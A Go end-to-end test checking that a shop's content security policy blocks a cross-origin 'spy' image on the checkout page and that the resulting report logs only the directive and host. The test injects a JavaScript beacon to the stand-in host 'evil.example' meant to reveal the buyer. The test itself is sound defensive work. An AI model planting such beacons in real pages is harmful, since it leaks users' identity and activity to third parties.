package e2e

import (
	"strings"
	"testing"
)

// TestABrowserReportsWhatItBlocked: a picture from another site would reveal the buyer
// to it. The report must pass the referrer policy, the cross-origin check and the rules
// of the browser.
func TestABrowserReportsWhatItBlocked(t *testing.T) {
	t.Parallel()
	shop := openShop(t)
	buyer := shop.buyer(desktop)
	buyer.mayComplain("evil.example")
	buyer.orders("TIN-03")
	buyer.arrives(checkoutPage)
	buyer.until("the blocked picture", `(window.spy ??= Object.assign(new Image(), {src: "https://evil.example/spy.gif?who"})) && true`)
	buyer.await("the report", func() bool {
		return strings.Contains(shop.log.String(), `msg="content security policy broken" directive=img-src source=evil.example`)
	})
	if strings.Contains(shop.log.String(), "spy.gif") || strings.Contains(shop.log.String(), buyer.token()) {
		t.Error("the log holds more than directive and host")
	}
}
